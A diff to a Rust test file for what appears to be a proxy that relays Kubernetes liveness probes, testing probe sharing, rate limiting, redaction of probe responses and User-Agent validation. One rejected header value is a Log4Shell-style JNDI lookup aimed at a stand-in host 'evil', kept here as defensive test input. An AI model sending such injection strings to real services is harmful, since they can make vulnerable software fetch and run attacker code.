@@ -124,11 +124,66 @@ async fn who_asks_meanwhile_waits_for_the_same_answer_also_when_the_first_one_le
     drop(first);
     app.write_all(b"HTTP/1.1 203 A\r\ncontent-length: 2\r\n\r\nhi").await.unwrap();
     assert_eq!(second.await.unwrap(), Answer { status: StatusCode::from_u16(203).unwrap(), body: "hi".into() });
-    // One that begins later asks anew.
+    // Soon after it the same is told, and later the application is asked anew.
     drop(app);
+    let again = probes.run("/app-probe/a/liveness", &probe, None).await.unwrap();
+    assert_eq!((again.status.as_u16(), again.shown().as_str()), (203, ""));
+    tokio::time::pause();
+    tokio::time::advance(PAUSE).await;
+    tokio::time::resume();
     let mut third = Box::pin(probes.run("/app-probe/a/liveness", &probe, None));
     begins(&mut third).await;
     let (app, _) = listener.accept().await.unwrap();
     drop(app);
     assert!(third.await.unwrap_err().contains("does not answer HTTP"));
+}
+
+#[tokio::test(start_paused = true)]
+async fn however_often_strangers_ask_the_app_is_asked_twice_a_second_and_a_kubelet_hears_what_is_now() {
+    let probes = Probes::new(&bootstrap(&[]));
+    // Each is answered at once, with its own port in it: so the answer says which one it is of.
+    let ask = async |port| {
+        let probe = Probe { port, timeout_ms: 5000, check: ProbeCheck::Tcp };
+        probes.run("/app-probe/a/liveness", &probe, None).await.unwrap_err()
+    };
+    let wait = |milliseconds| tokio::time::advance(Duration::from_millis(milliseconds));
+    assert_eq!(ask(15001).await, "port 15001 is the proxy's own");
+    wait(499).await;
+    assert_eq!(ask(15006).await, "port 15001 is the proxy's own");
+    wait(1).await;
+    assert_eq!(ask(15006).await, "port 15006 is the proxy's own");
+    // The kubelet's, once a second, with strangers in between.
+    let (mut heard, ports) = (Vec::new(), [15001, 15006, 15000, 15020]);
+    for port in ports {
+        for _ in 0..9 {
+            wait(100).await;
+            ask(port).await;
+        }
+        wait(100).await;
+        heard.push(ask(port).await);
+    }
+    assert_eq!(heard, ports.map(|port| format!("port {port} is the proxy's own")));
+}
+
+#[test]
+fn little_is_shown_of_failures_and_nothing_of_passing() {
+    let answer = |status, body: &'static str| Answer {
+        status: StatusCode::from_u16(status).unwrap(),
+        body: Bytes::from_static(body.as_bytes()),
+    };
+    assert_eq!(answer(200, "the database's password is 1234").shown(), "");
+    assert_eq!(answer(302, "elsewhere").shown(), "");
+    assert_eq!(answer(503, "no\r\ndatabase\u{1b}[2J\u{e9}\n").shown(), "no  database [2J");
+    assert_eq!(shown(&[b'a'; 10_000]), "a".repeat(256));
+}
+
+#[test]
+fn strangers_have_no_words_for_the_app() {
+    let sent = |agent: &'static str| named(Some(&HeaderValue::from_static(agent)));
+    for agent in ["kube-probe/1.34", "kube-probe/1.30+", "kube-probe/v1.29.4-eks-036c24b"] {
+        assert_eq!(sent(agent), agent);
+    }
+    for agent in ["curl/8", "kube-probe/${jndi:ldap://evil/a}", "kube-probe/1 2", "kube-probe/'", "kube-probe/<a>"] {
+        assert_eq!(sent(agent), AGENT, "{agent}");
+    }
 }
